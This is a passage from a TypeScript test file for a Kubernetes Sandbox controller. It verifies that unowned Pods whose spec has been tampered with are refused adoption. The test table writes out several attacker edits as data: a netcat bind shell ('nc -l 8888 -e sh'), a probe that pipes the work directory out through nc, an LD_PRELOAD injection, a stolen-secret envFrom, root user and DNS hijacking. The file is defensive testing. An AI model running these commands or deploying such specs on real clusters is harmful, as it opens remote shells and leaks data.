    const plan = planSandbox(observed(running({ spec: { podTemplate: { spec: spec as PodSpec } } }), { pods: [orphan(spec, { [APPARMOR]: 'runtime/default' })] }));
    expect(summary(plan.actions)).toEqual(['patch pod my-sandbox']);
    expect(plan.problem).toBeUndefined();
  });

  test('a Pod of another Sandbox (its hash) named in our pod-name annotation is not ours to adopt', () => {
    const other = pod({ name: 'victim', owner: null, labels: { [SandboxLabels.SANDBOX_NAME_HASH]: NameHash.of('victim') } });
    const plan = planSandbox(observed(sandbox({ annotations: { [SandboxAnnotations.POD_NAME]: 'victim' } }), { pods: [other] }));
    expect(plan.actions.filter((a) => a.op === 'patch' && a.kind === 'pod')).toEqual([]);
    expect(plan.problem?.message).toContain('Pod "victim" exists and no controller owns it, and it does not carry this Sandbox\'s label agents.x-k8s.io/sandbox-name-hash=374de8f5');
  });
});

describe('planSandbox: an unowned Pod with our hash is adopted only when it is the Pod this Sandbox describes', () => {
  const TEMPLATE: PodSpec = {
    serviceAccountName: 'runner',
    securityContext: { runAsNonRoot: true, runAsUser: 1000 },
    initContainers: [{ name: 'setup', image: 'busybox:1', command: ['sh', '-c', 'cp -r /seed /work'], volumeMounts: [{ name: 'work', mountPath: '/work' }] }],
    containers: [{
      name: 'main',
      image: 'python:3.12-slim',
      command: ['python', '-m', 'agent'],
      args: ['--serve'],
      workingDir: '/work',
      env: [{ name: 'MODE', value: 'agent' }, { name: 'POD', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }],
      envFrom: [{ configMapRef: { name: 'settings' } }],
      volumeMounts: [{ name: 'work', mountPath: '/work', readOnly: false }, { name: 'cfg', mountPath: '/etc/agent' }],
      securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
      readinessProbe: { httpGet: { path: '/healthz', port: 8888 } },
    }],
    volumes: [{ name: 'work', emptyDir: {} }, { name: 'cfg', configMap: { name: 'agent' } }],
  };
  const victim = (spec: PodSpec = TEMPLATE) => running({ spec: { podTemplate: { spec: structuredClone(spec) } } });
  /** The Pod the controller builds for `sb`, as the API server serves it: every default filled in. */
  const served = (sb: Sandbox): PodSpec => {
    const spec = structuredClone(buildPod(sb).spec!) as any;
    const container = (c: any) => ({
      ...c,
      terminationMessagePath: '/dev/termination-log',
      terminationMessagePolicy: 'File',
      imagePullPolicy: 'IfNotPresent',
      resources: {},
      ...(c.env ? { env: c.env.map((e: any) => (e.valueFrom?.fieldRef ? { ...e, valueFrom: { fieldRef: { apiVersion: 'v1', ...e.valueFrom.fieldRef } } } : e)) } : {}),
      ...(c.volumeMounts ? { volumeMounts: c.volumeMounts.map(({ readOnly, ...m }: any) => (readOnly ? { ...m, readOnly } : m)) } : {}),
      ...(c.readinessProbe ? { readinessProbe: { ...c.readinessProbe, httpGet: { scheme: 'HTTP', ...c.readinessProbe.httpGet }, timeoutSeconds: 1, periodSeconds: 10, successThreshold: 1, failureThreshold: 3 } } : {}),
    });
    return {
      ...spec,
      containers: spec.containers.map(container),
      ...(spec.initContainers ? { initContainers: spec.initContainers.map(container) } : {}),
      volumes: (spec.volumes ?? []).map((v: any) => (v.configMap ? { ...v, configMap: { defaultMode: 420, ...v.configMap } } : v)),
      serviceAccountName: spec.serviceAccountName ?? 'default',
      serviceAccount: spec.serviceAccountName ?? 'default',
      securityContext: spec.securityContext ?? {},
      dnsPolicy: 'ClusterFirst',
      restartPolicy: 'Always',
      schedulerName: 'default-scheduler',
      terminationGracePeriodSeconds: 30,
      enableServiceLinks: true,
      preemptionPolicy: 'PreemptLowerPriority',
      priority: 0,
      tolerations: [],
      nodeName: 'kwok-node-0',
    };
  };
  const orphanWith = (spec: PodSpec): Pod => ({ ...pod({ owner: null }), spec });
  const decideOn = (sb: Sandbox, spec: PodSpec) => planSandbox(observed(sb, { pods: [orphanWith(spec)] }));
  const edit = (change: (spec: any) => void) => (sb: Sandbox) => {
    const spec = served(sb) as any;
    change(spec);
    return spec as PodSpec;
  };

  // [what, the attacker's change to the served Pod, the field the refusal names]
  const DIFFERING: Array<[string, (sb: Sandbox) => PodSpec, string]> = [
    ['another image', edit((s) => { s.containers[0].image = 'attacker/agent:latest'; }), 'spec.containers[0].image (container "main")'],
    ['another command', edit((s) => { s.containers[0].command = ['sh', '-c', 'nc -l 8888 -e sh']; }), 'spec.containers[0].command (container "main")'],
    ['other args', edit((s) => { s.containers[0].args = ['--serve', '--debug']; }), 'spec.containers[0].args (container "main")'],
    ['another working directory', edit((s) => { s.containers[0].workingDir = '/tmp'; }), 'spec.containers[0].workingDir (container "main")'],
    ['an extra env var', edit((s) => { s.containers[0].env.push({ name: 'LD_PRELOAD', value: '/tmp/x.so' }); }), 'spec.containers[0].env (container "main")'],
    ['another envFrom', edit((s) => { s.containers[0].envFrom = [{ secretRef: { name: 'stolen' } }]; }), 'spec.containers[0].envFrom (container "main")'],
    ['a mount moved', edit((s) => { s.containers[0].volumeMounts[1].mountPath = '/etc'; }), 'spec.containers[0].volumeMounts (container "main")'],
    ['a read-only mount made writable', (sb) => {
      const spec = served(victim({ ...TEMPLATE, containers: [{ ...TEMPLATE.containers[0], volumeMounts: [{ name: 'cfg', mountPath: '/etc/agent', readOnly: true }] }] })) as any;
      spec.containers[0].volumeMounts[0].readOnly = false;
      void sb;
      return spec;
    }, 'spec.containers[0].volumeMounts (container "main")'],
    ['a postStart hook', edit((s) => { s.containers[0].lifecycle = { postStart: { exec: { command: ['sh', '-c', 'watch-and-send &'] } } }; }), 'spec.containers[0].lifecycle (container "main")'],
    ['a probe that runs a command', edit((s) => { s.containers[0].livenessProbe = { exec: { command: ['sh', '-c', 'tar c /work | nc x 1'] } }; }), 'spec.containers[0].livenessProbe (container "main")'],
    ['allowPrivilegeEscalation dropped (absent is not false)', edit((s) => { delete s.containers[0].securityContext.allowPrivilegeEscalation; }), 'spec.containers[0].securityContext (container "main")'],
    ['another init container image', edit((s) => { s.initContainers[0].image = 'attacker/setup'; }), 'spec.initContainers[0].image (container "setup")'],
    ['a sidecar', edit((s) => { s.containers.push({ name: 'sidecar', image: 'attacker/tap' }); }), 'spec.containers (names ["main","sidecar"], this Sandbox\'s are ["main"])'],
    ['no init container', edit((s) => { delete s.initContainers; }), 'spec.initContainers (names [], this Sandbox\'s are ["setup"])'],
    ['another volume source', edit((s) => { s.volumes[1] = { name: 'cfg', configMap: { name: 'attacker', defaultMode: 420 } }; }), 'spec.volumes[1] (volume "cfg")'],
    ['an extra volume', edit((s) => { s.volumes.push({ name: 'extra', emptyDir: {} }); }), 'spec.volumes (names ["work","cfg","extra"], this Sandbox\'s are ["work","cfg"])'],
    ['another ServiceAccount', edit((s) => { s.serviceAccountName = 'deployer'; }), 'spec.serviceAccountName'],
    ['a token', edit((s) => { s.automountServiceAccountToken = true; }), 'spec.automountServiceAccountToken'],
    ['another Pod security context', edit((s) => { s.securityContext.runAsUser = 0; }), 'spec.securityContext'],
    ['a runtime class', edit((s) => { s.runtimeClassName = 'runc-unsandboxed'; }), 'spec.runtimeClassName'],
    ['its own DNS', edit((s) => { s.dnsPolicy = 'None'; s.dnsConfig = { nameservers: ['10.9.9.9'] }; }), 'spec.dnsPolicy'],
    ['host aliases', edit((s) => { s.hostAliases = [{ ip: '10.9.9.9', hostnames: ['api.example.com'] }]; }), 'spec.hostAliases'],
  ];

  test.each(DIFFERING)('%s: refused, naming the first differing field; nothing written to the Pod', (_, spec, field) => {
    const sb = victim();
    const plan = decideOn(sb, spec(sb));
    expect(plan.actions).toEqual([]);
    expect(plan.problem).toMatchObject({ reason: 'ReconcilerError', podStep: true });
    expect(plan.problem?.message).toContain(`Pod "my-sandbox" exists and no controller owns it, but it is not adopted: it is not the Pod this Sandbox's spec describes (${field} differs)`);
    expect(plan.event).toEqual({ reason: 'PodAdoptionRefused', note: plan.problem?.message });
    expect(plan.status.podIPs).toBeUndefined();
  });

  test('negative control: the Pod the controller built, as the API server serves it with its defaults, is adopted', () => {
    const sb = victim();
    const plan = decideOn(sb, served(sb));
    expect(summary(plan.actions)).toEqual(['patch pod my-sandbox']);
    expect(plan.problem).toBeUndefined();
    expect(plan.event).toBeUndefined();
  });

  test('the token volume the ServiceAccount admission adds is tolerated only when the Sandbox asks for a token', () => {
    const addToken = (spec: any) => {
      spec.volumes.push({ name: 'kube-api-access-x7k2p', projected: { defaultMode: 420, sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: 'token' } }] } });
      for (const c of [...spec.containers, ...spec.initContainers]) {
        c.volumeMounts.push({ name: 'kube-api-access-x7k2p', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true });
      }
      return spec;
    };
    const asks = victim({ ...TEMPLATE, automountServiceAccountToken: true });
    expect(summary(decideOn(asks, addToken(served(asks))).actions)).toEqual(['patch pod my-sandbox']);
    // Without the ask (the operator sets automountServiceAccountToken: false), the same volume is a difference.
    const plain = victim();
    expect(decideOn(plain, addToken(served(plain))).problem?.message).toContain('(spec.initContainers[0].volumeMounts (container "setup") differs)');
  });
});
